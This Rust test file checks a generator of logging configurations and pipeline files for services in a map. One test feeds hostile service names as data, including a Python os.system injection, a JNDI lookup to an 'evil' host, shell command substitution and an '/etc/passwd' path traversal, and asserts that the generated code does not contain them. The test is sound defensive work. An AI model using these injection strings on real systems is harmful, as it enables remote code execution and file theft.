//! What is generated for logging: all of it as files beside this one, and what must hold whatever services are called.
//!
//! In: maps. Out: the files, compared byte by byte (`UPDATE_EXPECT=1` writes them anew).
//! Left out on purpose: whether programs take the files; `tests/sdk` runs them in their languages, and the pipelines.

use std::collections::{BTreeMap, BTreeSet};

use instrumentation::logging::{LoggingSettings, README_FILE, SCHEMA_FILE, directory, generate};
use map::{Language, Map, Node, NodeId, NodeKind};
use proptest::prelude::*;

const SHOP: &str = "version: 1
nodes:
  prod/shop/cart: {language: java}
  pricing: {language: go}
  shop/mailer: {language: python}
  storefront: {language: nodejs}
  ledger: {language: rust}
  tax: {language: php}
  orders: {kind: destination}
edges:
- {client: user, server: storefront}
- {client: storefront, server: billing}
- {client: billing, server: postgres, connection_type: database}
services:
  billing: {logging: {library: serilog}}
";

fn shop() -> BTreeMap<String, String> {
    generate(
        &map::file::map_from_yaml(SHOP).expect("a map"),
        &LoggingSettings::default(),
    )
}

#[test]
fn the_files_of_a_shop_are_these() {
    let files = shop();
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/golden");
    for (path, text) in &files {
        // Not `.rs` and `.go`: these are no sources of ours, which formatters would find.
        let name = path.replace('/', ".") + ".golden";
        expect_test::expect_file![dir.join(name)].assert_eq(text);
    }
    let golden = std::fs::read_dir(&dir).expect("golden files").count();
    assert_eq!(golden, files.len(), "a golden file that is generated no longer");
}

#[test]
fn each_service_has_what_its_language_or_its_people_say_and_others_have_nothing() {
    let directories: BTreeSet<String> = shop()
        .keys()
        .filter_map(|path| path.strip_prefix("logging/")?.split_once('/'))
        .map(|(directory, _)| directory.to_owned())
        .collect();
    let cart = directory(&NodeId::from("prod/shop/cart"));
    let mailer = directory(&NodeId::from("shop/mailer"));
    let expected = [
        "_pipelines",
        "_schema",
        "billing",
        "ledger",
        "pricing",
        &cart["logging/".len()..],
        &mailer["logging/".len()..],
        "storefront",
        "tax",
    ];
    assert_eq!(directories, expected.map(str::to_owned).into());
    let files = shop();
    assert!(files.contains_key("logging/billing/appsettings.serilog.json"));
    assert!(files.contains_key("logging/pricing/tracemapslog/slog.go"));
    assert!(files["logging/tax/README.md"].contains("There is no file for its logging library"));
}

#[test]
fn no_file_has_a_place_that_was_not_filled_or_a_secret() {
    for (path, text) in shop() {
        let unfilled = text.split('@').skip(1).step_by(2);
        let places: Vec<_> = unfilled
            .filter(|word| {
                word.len() > 3
                    && word
                        .chars()
                        .all(|c| c.is_ascii_uppercase() || "_0123456789".contains(c))
            })
            .collect();
        assert!(places.is_empty(), "{path}: {places:?}");
        assert!(!text.to_lowercase().contains("password"), "{path}");
    }
}

#[test]
fn beyond_the_bound_those_that_people_state_come_first_and_the_page_says_so() {
    let map = map::file::map_from_yaml(SHOP).expect("a map");
    let settings = LoggingSettings {
        max_services: 2,
        ..LoggingSettings::default()
    };
    let files = generate(&map, &settings);
    assert!(
        files.contains_key("logging/billing/README.md") && files.contains_key("logging/ledger/README.md")
    );
    assert!(!files.contains_key("logging/storefront/README.md"));
    assert!(
        files[README_FILE].contains("5 more services"),
        "{}",
        files[README_FILE]
    );
    let off = LoggingSettings {
        enabled: false,
        ..settings
    };
    assert!(generate(&map, &off).is_empty());
}

#[test]
fn a_pipeline_says_where_lines_are_and_where_they_go() {
    let settings = LoggingSettings {
        paths: ["/var/log/shop/*.log", "/srv/*.json"].map(str::to_owned).to_vec(),
        loki_url: "https://loki.example:8443/tenant/".to_owned(),
        ..LoggingSettings::default()
    };
    let files = generate(&Map::default(), &settings);
    let of = |name: &str| files[&format!("logging/_pipelines/{name}")].as_str();
    let yaml = |name: &str| -> serde_json::Value { serde_yaml::from_str(of(name)).expect("YAML") };
    let (collector, vector, fluent_bit) = (
        yaml("otel-collector.yaml"),
        yaml("vector.yaml"),
        yaml("fluent-bit.yaml"),
    );
    let paths = serde_json::json!(["/var/log/shop/*.log", "/srv/*.json"]);
    assert_eq!(collector["receivers"]["filelog"]["include"], paths);
    assert_eq!(
        collector["exporters"]["otlphttp"]["endpoint"],
        "https://loki.example:8443/tenant/otlp"
    );
    assert_eq!(vector["sources"]["lines"]["include"], paths);
    assert_eq!(
        vector["sinks"]["loki"]["endpoint"],
        "https://loki.example:8443/tenant"
    );
    let input = &fluent_bit["pipeline"]["inputs"][0];
    assert_eq!(input["path"], "/var/log/shop/*.log,/srv/*.json");
    let output = &fluent_bit["pipeline"]["outputs"][0];
    assert_eq!(
        (&output["host"], &output["port"]),
        (&"loki.example".into(), &8443.into())
    );
    assert_eq!(output["uri"], "/tenant/loki/api/v1/push");
    assert!(of("config.alloy").contains("url = \"https://loki.example:8443/tenant/loki/api/v1/push\""));
    assert!(of("config.alloy").contains("{ __path__ = \"/srv/*.json\" },"));
}

/// A service of any name and language.
fn named(id: &str, language: Language) -> Map {
    let node = Node {
        kind: NodeKind::Service,
        language: Some(language),
        ..Node::default()
    };
    Map {
        nodes: [(NodeId::new(id), node)].into(),
        ..Map::default()
    }
}

#[test]
fn what_a_strangers_sdk_calls_itself_becomes_no_code() {
    let names = [
        "\"; import os; os.system(\"x\"); \"",
        "${jndi:ldap://evil/x}",
        "a\nb: c",
        "--><x>",
        "'+process.exit()+'",
        "@ENVIRONMENT@",
        "*/ panic!() /*",
        "`$(x)`",
        "../../etc/passwd",
    ];
    for name in names {
        for language in Language::ALL {
            for (path, text) in generate(&named(name, language), &LoggingSettings::default()) {
                assert!(!path.contains(".."), "{path}");
                let is_page = path.rsplit('/').next() == Some("README.md");
                if path.starts_with("logging/_") || is_page {
                    continue;
                }
                let marks = ["import os;", "${jndi", "--><x>", "'+process", "panic!(", "$(x)"];
                assert!(!marks.iter().any(|mark| text.contains(mark)), "{text}");
                // The name stands in the first comment alone, without a sign that ends it.
                let plain = generate(&named("plain", language), &LoggingSettings::default());
                let twin = plain
                    .iter()
                    .find(|(other, _)| other.rsplit('/').next() == path.rsplit('/').next());
                let twin = twin.expect("the same file of another service").1;
                assert_eq!(text.lines().count(), twin.lines().count(), "{path}: {text}");
            }
        }
    }
}

#[test]
fn the_schema_is_json_and_names_what_the_design_fixes() {
    let schema: serde_json::Value = serde_json::from_str(&shop()[SCHEMA_FILE]).expect("JSON");
    let properties = schema["properties"].as_object().expect("properties");
    for name in [
        "trace_id",
        "span_id",
        "correlation.id",
        "service.name",
        "service.namespace",
        "service.version",
    ] {
        assert!(properties.contains_key(name), "{name}");
    }
    assert_eq!(schema["additionalProperties"], false);
}

#[test]
fn serilogs_template_names_its_fields_once_and_its_braces_close() {
    let settings: serde_json::Value =
        serde_json::from_str(&shop()["logging/billing/appsettings.serilog.json"]).expect("JSON");
    let template = settings["Serilog"]["WriteTo"][0]["Args"]["formatter"]["template"]
        .as_str()
        .expect("text");
    let schema: serde_json::Value = serde_json::from_str(&shop()[SCHEMA_FILE]).expect("JSON");
    for name in schema["properties"].as_object().expect("properties").keys() {
        let written = if name.contains('.') {
            format!("'{name}': ")
        } else {
            format!("{name}: ")
        };
        let times = template.matches(&written).count();
        assert_eq!(
            times,
            usize::from(name != "trace_flags"),
            "{name}: Serilog knows no flags"
        );
    }
    let count = |sign| template.matches(sign).count();
    assert_eq!((count("{"), count("(")), (count("}"), count(")")));
    assert_eq!(count("'") % 2, 0);
    assert_eq!(settings["Serilog"]["Properties"]["ServiceName"], "billing");
}

proptest! {
    #[test]
    fn directories_of_two_services_differ_and_stay_below_logging(a in ".{0,40}", b in ".{0,40}") {
        let of = |id: &str| directory(&NodeId::new(id));
        prop_assert_eq!(a == b, of(&a) == of(&b));
        let name = of(&a)["logging/".len()..].to_owned();
        prop_assert!(name.starts_with(|c: char| c.is_ascii_lowercase() || c.is_ascii_digit()), "{}", name);
        prop_assert!(name.len() < 200 && !name.contains('/'));
    }
}
